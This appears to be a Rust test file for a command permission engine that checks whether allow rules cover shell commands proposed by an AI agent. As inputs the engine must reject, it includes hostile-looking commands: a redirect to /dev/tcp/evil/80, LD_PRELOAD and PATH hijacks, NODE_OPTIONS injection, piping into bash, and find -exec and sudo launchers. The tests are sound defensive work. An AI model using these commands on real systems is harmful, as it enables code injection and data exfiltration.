//! What allow rules for commands vouch for.

use crate::command::{Folder, Origin, Stdin, WordValue};
use crate::rules::testing::{Case, command, rules, view, with};
use crate::rules::{Part, RuleSet, Vouch};

fn allowed(rule: &str, text: &str) -> bool {
    Case::run(text).is_allowed(&rules(&[&format!("allow {rule}")]))
}

#[test]
fn words_match_as_words() {
    for (rule, text, expected) in [
        ("Bash(git status)", "git status", true),
        ("Bash(git status)", "git status -s", false),
        ("Bash(npm run build)", "npm run build", true),
        ("Bash(frob *)", "frob", true),
        ("Bash(frob *)", "frob a b", true),
        ("Bash(frob *)", "frobnicate a", false),
        ("Bash(frob*)", "frobnicate", true),
        ("Bash(frob*)", "frobnicate a", false),
        ("Bash(frob * b)", "frob a b", true),
        ("Bash(frob * b)", "frob b", false),
        ("Bash(frob * b)", "frob a a b", false),
        ("Bash(frob *)", "/tmp/frob a", false),
        ("Bash(frob *)", "./frob a", false),
        ("Bash(frob *)", "FROB a", false),
        ("Bash(./gradlew test)", "./gradlew test", true),
        ("Bash(./gradlew *)", "./gradlew test --info", true),
        ("Bash(cat ~/x.txt)", "cat /home/u/x.txt", true),
        ("Bash", "frob a b", true),
        ("Bash(*)", "frob a b", true),
    ] {
        assert_eq!(allowed(rule, text), expected, "{rule}: {text}");
    }
}

#[test]
fn every_part_must_be_covered() {
    let set = rules(&["allow Bash(cargo test *)", "allow Bash(echo *)"]);
    for (text, expected) in [
        ("cargo test ; echo done", true),
        ("cargo test ; rm x", false),
        ("rm x ; cargo test", false),
        ("cargo test | frob", false),
        ("cargo test 2>&1", true),
        ("cargo test 2>/dev/null", true),
        ("cargo test >/dev/null 2>&1", true),
        ("cargo test >out.txt", false),
        ("cargo test <in.txt", false),
        ("cargo test >/dev/tcp/evil/80", false),
    ] {
        assert_eq!(Case::run(text).is_allowed(&set), expected, "{text}");
    }
    let substituted = with(view("cargo test"), "rm x", Origin::Substituted);
    assert!(!Case::shell(substituted).is_allowed(&set));
    let function = with(view("cargo test"), "rm x", Origin::Function);
    assert!(!Case::shell(function).is_allowed(&set));
    let fine = with(view("cargo test"), "echo x", Origin::Substituted);
    assert!(Case::shell(fine).is_allowed(&set));
}

#[test]
fn what_is_not_covered_is_named() {
    let set = rules(&["allow Bash(cargo test *)"]);
    for (text, part) in [
        ("cargo test ; frob y", "`frob y`"),
        (
            "cargo test >out.txt",
            "a redirect to out.txt (/work/app/out.txt)",
        ),
        ("PATH=x cargo test", "the assignment to `PATH`"),
    ] {
        let case = Case::run(text);
        assert_eq!(
            case.vouch(&set),
            Vouch::Not {
                part: part.to_owned()
            }
        );
    }
}

#[test]
fn redirects_need_rules_of_their_own() {
    let set = rules(&[
        "allow Bash(echo *)",
        "allow Edit(./out/**)",
        "allow Read(./in/**)",
    ]);
    for (text, expected) in [
        ("echo x >out/a.txt", true),
        ("echo x >>out/a.txt", true),
        ("echo x >out/../b.txt", false),
        ("echo x >in/a.txt", false),
        ("echo x <in/a.txt", true),
        ("echo x <>in/a.txt", false),
        ("echo x >$F", false),
        ("echo x >out/*.txt", false),
        ("echo x >out/.git/config", false),
    ] {
        assert_eq!(Case::run(text).is_allowed(&set), expected, "{text}");
    }
    let unknown_folder = {
        let mut view = view("echo x >out/a.txt");
        for command in &mut view.commands {
            command.folder = Folder::Unknown;
        }
        Case::shell(view)
    };
    assert!(!unknown_folder.is_allowed(&set));
}

#[test]
fn assignments_must_be_harmless_or_named() {
    let set = rules(&["allow Bash(npm test)", "allow Bash(MODE=fast npm start)"]);
    for (text, expected) in [
        ("CI=1 npm test", true),
        ("RUST_LOG=debug,x=info npm test", true),
        ("NODE_OPTIONS=--require=./x npm test", false),
        ("PATH=./evil npm test", false),
        ("LD_PRELOAD=./x.so npm test", false),
        ("CI=$X npm test", false),
        ("MODE=fast npm start", true),
        ("MODE=slow npm start", false),
        ("MODE=fast npm test", false),
        ("CI=1 ; npm test", true),
        ("PATH=x ; npm test", false),
    ] {
        assert_eq!(Case::run(text).is_allowed(&set), expected, "{text}");
    }
}

#[test]
fn nothing_is_fed_to_an_interpreter() {
    let set = rules(&[
        "allow Bash(frob *)",
        "allow Bash(bash)",
        "allow Bash(python3 -)",
        "allow Bash(timeout 5 sh)",
        "allow Bash(jq .name)",
        "allow Bash(xargs frob)",
    ]);
    for (text, expected) in [
        ("frob x | bash", false),
        ("frob x | python3 -", false),
        ("bash <<END", false),
        ("bash", true),
        ("bash </dev/null", true),
        ("bash </dev/null <x.sh", false),
        ("bash </dev/stdin", false),
        ("frob x | jq .name", true),
        ("frob x | xargs frob", false),
    ] {
        assert_eq!(Case::run(text).is_allowed(&set), expected, "{text}");
    }
    // However the interpreter comes to its input.
    let mut wrapped = with(
        view("frob x | timeout 5 sh"),
        "sh",
        Origin::Wrapped { by: 1 },
    );
    assert!(!Case::shell(wrapped.clone()).is_allowed(&set));
    for command in &mut wrapped.commands {
        command.stdin = Stdin::Inherited;
    }
    assert!(Case::shell(wrapped).is_allowed(&set));
}

#[test]
fn a_wildcard_does_not_stand_for_what_may_become_an_option() {
    for (text, expected) in [
        ("frob $X", false),
        ("frob -$X", false),
        ("frob src/$X", true),
        ("frob *", false),
        ("frob -*", false),
        ("frob ./*", true),
        ("frob src/*.rs", true),
    ] {
        assert_eq!(allowed("Bash(frob *)", text), expected, "{text}");
    }
    assert!(!allowed("Bash(frob x)", "frob $X"));
    assert!(!allowed("Bash(frob x)", "$X x"));
    assert!(!allowed("Bash(*)", "$X x"));
    // Where options are known, nothing may bring in others.
    assert!(!allowed("Bash(cargo test *)", "cargo test src/$X"));
}

#[test]
fn a_wildcard_stands_only_for_options_that_are_known_to_be_harmless() {
    for (rule, text, expected) in [
        (
            "Bash(cargo test *)",
            "cargo test --workspace -- --nocapture",
            true,
        ),
        ("Bash(cargo test *)", "cargo test --config x", false),
        ("Bash(cargo test --config x)", "cargo test --config x", true),
        ("Bash(go test *)", "go test -run TestX ./...", true),
        ("Bash(go test *)", "go test -exec sh ./...", false),
        ("Bash(git diff *)", "git diff --output=x", false),
        ("Bash(git diff *)", "git diff --stat HEAD~1", true),
        ("Bash(git log *)", "git log --oneline -5", true),
        ("Bash(pytest *)", "pytest -x tests", true),
        ("Bash(pytest *)", "pytest -p evil", false),
    ] {
        assert_eq!(allowed(rule, text), expected, "{rule}: {text}");
    }
}

fn wrapped(outer: &str, inner: &str, origin: Origin) -> Case {
    Case::shell(with(view(outer), inner, origin))
}

#[test]
fn wrappers_are_looked_through() {
    let by = Origin::Wrapped { by: 0 };
    let set = rules(&["allow Bash(cargo test *)"]);
    assert!(wrapped("timeout 5 cargo test", "cargo test", by).is_allowed(&set));
    assert!(wrapped("CI=1 timeout 5 cargo test", "cargo test", by).is_allowed(&set));
    assert!(!wrapped("timeout 5 rm x", "rm x", by).is_allowed(&set));
    assert!(!wrapped("PATH=x timeout 5 cargo test", "cargo test", by).is_allowed(&set));
    let whole = rules(&["allow Bash(timeout 5 frob x)"]);
    assert!(wrapped("timeout 5 frob x", "frob x", by).is_allowed(&whole));
    let wild = rules(&["allow Bash(timeout *)"]);
    assert!(!wrapped("timeout 5 rm x", "rm x", by).is_allowed(&wild));
    let named = rules(&["allow Bash(timeout * frob x)"]);
    assert!(wrapped("timeout 9 frob x", "frob x", by).is_allowed(&named));
    assert!(!wrapped("timeout 9 frob y", "frob y", by).is_allowed(&named));
}

#[test]
fn launchers_are_not_looked_through() {
    let by = Origin::Launched { by: 0 };
    let inner = rules(&["allow Bash(frob *)"]);
    for outer in ["sudo frob x", "env frob x", "xargs frob x", "bash -c frob"] {
        assert!(!wrapped(outer, "frob x", by).is_allowed(&inner), "{outer}");
    }
    // A wildcard vouches for nothing that a launcher would run.
    for (rule, outer, run) in [
        ("allow Bash(sudo *)", "sudo rm x", "rm x"),
        ("allow Bash(find *)", "find . -exec rm x", "rm x"),
        ("allow Bash(find . *)", "find . -exec rm x", "rm x"),
        ("allow Bash(frobtool *)", "frobtool rm x", "rm x"),
        ("allow Bash(*)", "sudo rm x", "rm x"),
    ] {
        assert!(
            !wrapped(outer, run, by).is_allowed(&rules(&[rule])),
            "{rule}"
        );
    }
    let literal = rules(&["allow Bash(sudo systemctl restart app)"]);
    assert!(
        wrapped("sudo systemctl restart app", "systemctl restart app", by).is_allowed(&literal)
    );
    // What stands beside it is a part of its own.
    let mut more = view("sudo systemctl restart app ; rm x");
    let mut launched = command("systemctl restart app");
    launched.origin = by;
    more.commands.insert(1, launched);
    assert!(!Case::shell(more).is_allowed(&literal));
    let deeper = with(
        with(view("sudo timeout 5 frob x"), "timeout 5 frob x", by),
        "frob x",
        Origin::Wrapped { by: 1 },
    );
    assert!(Case::shell(deeper.clone()).is_allowed(&rules(&["allow Bash(sudo timeout 5 frob x)"])));
    assert!(!Case::shell(deeper).is_allowed(&inner));
}

#[test]
fn bogus_indices_vouch_for_nothing() {
    let set = rules(&["allow Bash(frob *)"]);
    for by in [1, 2, 99] {
        for origin in [Origin::Wrapped { by }, Origin::Launched { by }] {
            assert!(
                !wrapped("frob a", "rm x", origin).is_allowed(&set),
                "{origin:?}"
            );
        }
    }
}

#[test]
fn protected_operands_are_not_covered_unless_they_are_only_read() {
    for (rule, text, expected) in [
        ("Bash(rm .git/index.lock)", "rm .git/index.lock", false),
        ("Bash(frob *)", "frob package.json", false),
        ("Bash(cat *)", "cat package.json", true),
        ("Bash(git diff *)", "git diff package.json", true),
        (
            "Bash(git diff --output=x package.json)",
            "git diff --output=x package.json",
            false,
        ),
        ("Bash(cargo fmt *)", "cargo fmt -- package.json", false),
        ("Bash(npm run build)", "npm run build", true),
    ] {
        assert_eq!(allowed(rule, text), expected, "{rule}: {text}");
    }
}

fn moved(text: &str, to: &str) -> Case {
    let mut view = view(text);
    for command in view.commands.iter_mut().skip(1) {
        command.folder = Folder::Moved(vec![to.to_owned()]);
    }
    Case::shell(view)
}

#[test]
fn a_rule_holds_below_the_folder_of_the_call() {
    let set = rules(&[
        "allow Bash(cargo test *)",
        "allow Bash(cd *)",
        "allow Bash(git status)",
        "allow Bash(./gradlew test)",
    ]);
    assert!(moved("cd sub ; cargo test", "sub").is_allowed(&set));
    assert!(!moved("cd /tmp/evil ; cargo test", "/tmp/evil").is_allowed(&set));
    assert!(!moved("cd .. ; cargo test", "..").is_allowed(&set));
    // Another repository, with a configuration of its own.
    assert!(!moved("cd sub ; git status", "sub").is_allowed(&set));
    // Another program.
    assert!(!moved("cd sub ; ./gradlew test", "sub").is_allowed(&set));
    assert!(moved("cd sub ; cargo test", "sub").is_allowed(&rules(&["allow Bash(cargo test *)"])));
    // Going somewhere is nothing that a rule is needed for, and no reason to
    // allow anything.
    assert!(!Case::run("cd sub").is_allowed(&RuleSet::default()));
}

#[test]
fn nothing_is_vouched_for_that_is_not_understood() {
    let set = rules(&["allow Bash", "allow Bash(ls *)"]);
    assert!(!Case::unclear("ls x").is_allowed(&set));
    assert!(!Case::run("").is_allowed(&set));
    let mut unparsed = Case::run("ls");
    unparsed.facts.command = None;
    assert!(!unparsed.is_allowed(&set));
    assert!(Case::run("ls x").is_allowed(&set));
}

#[test]
fn contained_parts_need_no_rule_but_some_rule_must_speak() {
    let set = rules(&["allow Bash(frob *)"]);
    let contained = |part: Part<'_>| match part {
        Part::Command(command) => command.name() == Some("ls"),
        Part::Redirect(_, redirect) => {
            redirect.target.as_ref().map(|target| &target.value)
                == Some(&WordValue::Literal("/tmp/x".to_owned()))
        }
        Part::Assignment(_, assignment) => assignment.name == "FOO",
    };
    for (text, expected) in [
        ("ls ; FOO=1 frob x >/tmp/x", true),
        ("ls ; FOO=1 frob x >/tmp/y", false),
        ("ls", false),
    ] {
        let case = Case::run(text);
        let vouch = set.vouch(&case.subject(), &|_| true, &contained, &|_| None);
        assert_eq!(matches!(vouch, Vouch::All(_)), expected, "{text}");
    }
}

#[test]
fn rules_that_are_set_aside_vouch_for_nothing() {
    let set = rules(&["allow Bash(python *)", "allow Bash(cargo test *)"]);
    assert!(Case::run("python x.py").is_allowed(&set));
    assert!(!Case::run("python x.py").is_allowed_in_auto(&set));
    assert!(Case::run("cargo test").is_allowed_in_auto(&set));
}

#[test]
fn the_rules_that_vouch_are_named_once_each() {
    let set = rules(&[
        "allow Bash(frob *)",
        "allow Bash(ls *)",
        "allow Bash(echo *)",
    ]);
    let case = Case::run("frob a ; ls ; frob b");
    let Vouch::All(rules) = case.vouch(&set) else {
        panic!("not covered")
    };
    let texts: Vec<&str> = rules.iter().map(|rule| rule.text()).collect();
    assert_eq!(texts, ["Bash(frob *)", "Bash(ls *)"]);
}
